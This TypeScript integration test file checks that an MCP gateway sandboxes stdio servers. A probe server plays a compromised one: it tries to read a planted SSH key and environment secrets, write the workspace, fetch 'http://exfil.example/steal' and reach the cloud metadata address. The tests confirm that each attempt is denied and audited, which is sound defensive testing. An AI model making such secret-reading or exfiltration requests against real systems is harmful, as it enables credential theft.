// The gateway's stdio servers each run in a sandbox of their own, and `perimeter run` serves the
// session's gateway to the agent. A probe server (packages/mcp/test/fixtures/probe-server.ts) is
// asked to do what a compromised server would: read the user's secrets, write the workspace,
// reach the network around its proxy and through it, read the user's environment. The real
// binary over stdio with the SDK's client, and a real session with the SDK's client inside it.
// Ids `mcp-threat-NN` are the threat rows of research/mcp-gateways.md §5.

import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server as TcpServer } from 'node:net';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport, getDefaultEnvironment } from '@modelcontextprotocol/sdk/client/stdio.js';
import { REPO_ROOT, tempDir, writeFile } from './cli-harness.js';
import { BIN, SANDBOX_SKIP } from './sandbox-harness.js';
import { spawnSync } from 'node:child_process';

const PROBE = join(REPO_ROOT, 'packages/mcp/dist/test/fixtures/probe-server.js');
const TIMEOUT = 30_000;
const BOUND = { timeout: 3 * TIMEOUT, skip: SANDBOX_SKIP };
const NODE = JSON.stringify(process.execPath);
const SECRET = 'probe-secret-6f1e9a';

interface Place {
  readonly dir: string;
  readonly state: string;
  readonly home: string;
  readonly workspace: string;
  readonly audit: string;
}

function place(t: TestContext): Place {
  const dir = tempDir(t);
  const p = {
    dir,
    state: join(dir, 'state'),
    home: join(dir, 'home'),
    workspace: join(dir, 'workspace'),
    audit: join(dir, 'audit.jsonl'),
  };
  for (const d of [p.state, join(p.home, '.ssh'), p.workspace]) mkdirSync(d, { recursive: true });
  writeFileSync(join(p.home, '.ssh/id_ed25519'), `${SECRET}\n`);
  writeFileSync(join(p.workspace, 'README.md'), 'the workspace\n');
  return p;
}

function policy(p: Place, sandbox = '', extra = ''): string {
  return writeFile(
    p.dir,
    'policy.yaml',
    `apiVersion: perimeter/v1
kind: Policy
metadata: { name: mcp-sandbox-test, layer: org }
filesystem:
  default: deny
  allow:
    - { id: workspace, paths: ["\${workspace}/**"], access: rw }
    - { id: system, paths: [/usr/**, /bin/**, /lib/**, /lib64/**, /etc/**], access: read }
    - { id: perimeter, paths: [${JSON.stringify(`${REPO_ROOT.replace(/\/$/, '')}/**`)}], access: read }
mcp:
  pinning: tofu
  servers:
    - id: probe
      command: [${NODE}, ${JSON.stringify(PROBE)}]
      env: { PROBE_GIVEN: from-the-catalog }
      sandbox: { read: [${JSON.stringify(`${REPO_ROOT.replace(/\/$/, '')}/**`)}]${sandbox} }
  allow:
    - { id: probe, server: probe }
${extra}`,
  );
}

/** `perimeter mcp` over stdio for the test's place, with the SDK's client in front. */
async function connectGateway(
  t: TestContext,
  p: Place,
  policyFile: string,
): Promise<{ client: Client; stderr: () => string }> {
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [
      BIN,
      'mcp',
      '--policy',
      policyFile,
      '--audit',
      p.audit,
      '--workspace',
      p.workspace,
      '--home',
      p.home,
    ],
    env: { ...getDefaultEnvironment(), XDG_STATE_HOME: p.state, NO_COLOR: '1', PROBE_SECRET: SECRET },
    cwd: p.workspace,
    stderr: 'pipe',
  });
  let stderr = '';
  transport.stderr?.on('data', (c: Buffer) => (stderr += c.toString()));
  const client = new Client({ name: 'mcp-sandbox-test', version: '1.0.0' });
  await client.connect(transport, { timeout: TIMEOUT });
  t.after(() => client.close());
  return { client, stderr: () => stderr };
}

/** The probe server behind the gateway: each call answers what one action came to. */
async function gateway(
  t: TestContext,
  p: Place,
  policyFile: string,
): Promise<(action: string, target: string) => Promise<string>> {
  const { client, stderr } = await connectGateway(t, p, policyFile);
  return async (action, target) => {
    const r = await client.callTool({ name: 'probe__probe', arguments: { action, target } }, undefined, {
      timeout: TIMEOUT,
    });
    const first = (r.content as { type: string; text?: string }[])[0];
    assert.equal(first?.type, 'text', `a text result; stderr: ${stderr()}`);
    return first?.text ?? '';
  };
}

interface Event {
  type: string;
  decision?: string;
  request?: { surface: string; resource: string };
  outcome?: Record<string, string | number | boolean>;
}

function events(p: Place): Event[] {
  const r = spawnSync(process.execPath, [BIN, 'audit', 'verify', p.audit], { encoding: 'utf8' });
  assert.equal(r.status, 0, `the spool verifies: ${r.stdout}${r.stderr}`);
  return readFileSync(p.audit, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Event);
}

/** A TCP listener on host loopback, counting connections: what a server must not reach directly. */
async function listener(t: TestContext): Promise<{ port: number; connections: () => number }> {
  let n = 0;
  const s: TcpServer = createServer((c) => {
    n++;
    c.destroy();
  });
  await new Promise<void>((ok) => s.listen(0, '127.0.0.1', () => ok()));
  t.after(() => s.close());
  const address = s.address();
  return { port: typeof address === 'object' && address ? address.port : 0, connections: () => n };
}

void describe('stdio MCP servers run in a sandbox of their own', () => {
  void it(
    "mcp-threat-08: a server cannot read the user's secrets, its environment or write the workspace (read-only by default)",
    BOUND,
    async (t) => {
      const p = place(t);
      const probe = await gateway(t, p, policy(p));
      assert.equal(await probe('read', join(p.workspace, 'README.md')), 'read:the workspace');
      assert.equal(
        await probe('read', join(p.home, '.ssh/id_ed25519')),
        'ENOENT',
        'the home directory is not there',
      );
      assert.equal(await probe('read', join(p.state, 'mcp-pins.json')), 'ENOENT', 'nor the pin store');
      assert.equal(await probe('write', join(p.workspace, 'README.md')), 'EROFS');
      assert.equal(await probe('env', 'PROBE_SECRET'), '(unset)', "the gateway's environment stays outside");
      assert.equal(await probe('env', 'PROBE_GIVEN'), 'from-the-catalog', "the catalog entry's env is given");
      assert.equal(readFileSync(join(p.workspace, 'README.md'), 'utf8'), 'the workspace\n');
      const spawn = events(p).find((e) => e.type === 'mcp.server.spawn');
      assert.equal(spawn?.outcome?.isolation, 'sandbox');
    },
  );

  void it(
    'a private home that persists between runs, and workspace: rw when the entry says so',
    BOUND,
    async (t) => {
      const p = place(t);
      const file = policy(p, ', workspace: rw');
      const first = await gateway(t, p, file);
      const home = await first('env', 'HOME');
      assert.equal(home, join(p.state, 'perimeter/mcp-servers/probe'));
      assert.equal(await first('write', join(home, 'cache')), 'written');
      assert.equal(await first('write', join(p.workspace, 'notes.txt')), 'written');
      assert.equal(readFileSync(join(p.workspace, 'notes.txt'), 'utf8'), 'probe\n');
      const second = await gateway(t, p, file);
      assert.equal(await second('read', join(home, 'cache')), 'read:probe', 'the cache survived');
      assert.equal(
        await second('write', join(p.workspace, '.git/hooks/pre-commit')),
        'EROFS',
        'trust-handoff paths stay read-only',
      );
    },
  );

  void it(
    'mcp-threat-09: no network but its own proxy, which denies what the entry does not name and audits it',
    BOUND,
    async (t) => {
      const p = place(t);
      const host = await listener(t);
      const probe = await gateway(t, p, policy(p));
      assert.match(await probe('connect', `127.0.0.1 ${host.port}`), /^(ECONNREFUSED|ENETUNREACH)$/);
      // The namespace has no route out; only ports 80 and 443 are captured, and sent to the proxy.
      assert.match(await probe('connect', '10.255.255.1 81'), /^(ECONNREFUSED|ENETUNREACH|EHOSTUNREACH)$/);
      await probe('connect', '10.255.255.1 80');
      assert.equal(await probe('fetch', 'http://exfil.example/steal'), '403');
      assert.equal(host.connections(), 0, 'the host listener was never reached');
      const denied = events(p).filter((e) => e.request?.surface === 'network' && e.decision === 'deny');
      assert.ok(
        denied.some(
          (e) => e.request?.resource.startsWith('exfil.example:80') && e.outcome?.mcp_server === 'probe',
        ),
        `the denial is audited and names the server: ${JSON.stringify(denied)}`,
      );
      assert.ok(
        denied.some((e) => e.request?.resource === '10.255.255.1:80' && e.outcome?.mcp_server === 'probe'),
        `the captured direct connection is decided by the proxy: ${JSON.stringify(denied)}`,
      );
    },
  );
});

void describe('remote servers are reached through the egress proxy', () => {
  void it(
    'mcp-threat-09: a catalog URL that points at the metadata service is refused by the guard and audited',
    BOUND,
    async (t) => {
      const p = place(t);
      const file = writeFile(
        p.dir,
        'remote.yaml',
        `apiVersion: perimeter/v1
kind: Policy
metadata: { name: mcp-remote-test, layer: org }
mcp:
  servers:
    - { id: metadata, url: "https://169.254.169.254/mcp" }
  allow:
    - { id: all, server: "*" }
`,
      );
      const { client, stderr } = await connectGateway(t, p, file);
      assert.deepEqual((await client.listTools(undefined, { timeout: TIMEOUT })).tools, []);
      assert.match(stderr(), /metadata is unavailable .*egress proxy refused 169\.254\.169\.254:443/);
      await client.close();
      const denied = events(p).filter((e) => e.request?.surface === 'network');
      assert.ok(denied.length > 0, 'the attempt is audited');
      for (const e of denied) {
        assert.equal(e.decision, 'deny');
        assert.equal(e.outcome?.mcp_server, 'metadata');
      }
    },
  );
});

void describe('perimeter run serves the session its MCP gateway', () => {
  void it(
    "the agent reaches it with the session token, not without, and cannot see the servers' homes",
    BOUND,
    (t) => {
      const p = place(t);
      const script = join(p.workspace, 'agent.mjs');
      writeFileSync(
        script,
        `import { Client } from ${JSON.stringify(join(REPO_ROOT, 'node_modules/@modelcontextprotocol/sdk/dist/esm/client/index.js'))};
import { StreamableHTTPClientTransport } from ${JSON.stringify(join(REPO_ROOT, 'node_modules/@modelcontextprotocol/sdk/dist/esm/client/streamableHttp.js'))};
import { readFileSync, readdirSync } from 'node:fs';
const url = new URL(process.env.PERIMETER_MCP_URL);
const config = JSON.parse(readFileSync(process.env.PERIMETER_MCP_CONFIG, 'utf8')).mcpServers.perimeter;
console.log('config', config.url === url.href, config.headers.Authorization === 'Bearer ' + process.env.PERIMETER_MCP_TOKEN);
const bare = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
console.log('without token', bare.status);
const c = new Client({ name: 'agent', version: '1' });
await c.connect(new StreamableHTTPClientTransport(url, { requestInit: { headers: { Authorization: 'Bearer ' + process.env.PERIMETER_MCP_TOKEN } } }));
console.log('tools', (await c.listTools()).tools.map((x) => x.name).join(','));
const r = await c.callTool({ name: 'probe__probe', arguments: { action: 'env', target: 'HOME' } });
console.log('server home', r.content[0].text);
try { readdirSync(r.content[0].text); console.log('agent sees it'); } catch (e) { console.log('agent sees it', e.code); }
await c.close();
`,
      );
      const r = spawnSync(
        process.execPath,
        [BIN, 'run', '--policy', policy(p), '--audit', p.audit, '--', process.execPath, script],
        {
          cwd: p.workspace,
          encoding: 'utf8',
          timeout: TIMEOUT,
          env: { ...process.env, XDG_STATE_HOME: p.state, HOME: p.home, NO_COLOR: '1' },
        },
      );
      assert.equal(r.status, 0, `${r.stdout}${r.stderr}`);
      assert.match(r.stdout, /^config true true$/m);
      assert.match(r.stdout, /^without token 401$/m);
      assert.match(r.stdout, /^tools probe__probe$/m);
      assert.match(r.stdout, /^agent sees it ENOENT$/m, 'the state directory is hidden from the agent');
      const types = events(p).map((e) => e.type);
      for (const type of [
        'session.start',
        'mcp.server.spawn',
        'mcp.list',
        'mcp.call',
        'mcp.result',
        'session.end',
      ])
        assert.ok(types.includes(type), `${type} in ${types.join(',')}`);
      assert.ok(types.indexOf('mcp.result') < types.indexOf('session.end'));
    },
  );
});
